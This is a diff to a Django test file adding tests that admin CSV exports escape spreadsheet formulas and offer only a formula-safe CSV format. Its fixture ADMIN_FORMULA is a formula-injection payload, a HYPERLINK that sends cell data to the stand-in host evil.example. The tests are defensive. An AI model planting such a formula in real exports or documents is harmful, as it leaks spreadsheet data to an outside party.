@@ -5,6 +5,8 @@ from datetime import date
 
 import pytest
 import tablib
+from django.apps import apps
+from django.contrib import admin
 from django.contrib.messages import get_messages
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
@@ -26,6 +28,7 @@ from clusters.services import (
     NO_SUCH_USER,
 )
 from clusters.views import CLUSTER_SAVED, JOIN_REQUEST_SENT, MEMBER_ADDED, MEMBER_REMOVED
+from core.csv import SafeCSV
 from core.models import AuditEvent
 from core.services import record
 from tests.factories import (
@@ -894,6 +897,33 @@ def test_admin_exports_clusters_as_csv(login, secretariat, cluster, other_cluste
     assert by_slug["mobility-valley"]["name"] == "Mobility Valley"
     assert by_slug["mobility-valley"]["ecosystems"] == "mobility"
     assert by_slug["energy-coast"]["country"] == "FR"
+
+
+ADMIN_FORMULA = '=HYPERLINK("https://evil.example/?x="&A2,"Open")'
+
+
+@pytest.mark.parametrize(
+    "column", ["name", "acronym", "region", "city", "description", "offers", "needs"]
+)
+def test_the_admin_export_writes_a_formula_as_text(login, secretariat, cluster, column):
+    Cluster.objects.filter(pk=cluster.pk).update(**{column: ADMIN_FORMULA[:20]})
+    client = login(secretariat)
+    url = reverse("admin:clusters_cluster_export")
+    fields = [f"clusterresource_{name}" for name in ClusterResource._meta.fields]
+
+    response = client.post(url, {"resource": "0", "format": "0", **dict.fromkeys(fields, "on")})
+
+    assert response["Content-Type"].startswith("text/csv")
+    (row,) = csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))
+    assert row[column] == "'" + ADMIN_FORMULA[:20]
+    assert row["members_smes"] == str(cluster.members_smes)  # numbers stay numbers
+
+
+@pytest.mark.parametrize("model", ["clusters.Cluster", "actionplan.Action"])
+def test_the_admin_exports_only_formula_safe_csv(model):
+    model_admin = admin.site._registry[apps.get_model(model)]
+
+    assert model_admin.get_export_formats() == [SafeCSV]  # XLSX/ODS would run formulas
 
 
 def test_csv_import_round_trip_creates_and_updates_clusters(cluster):
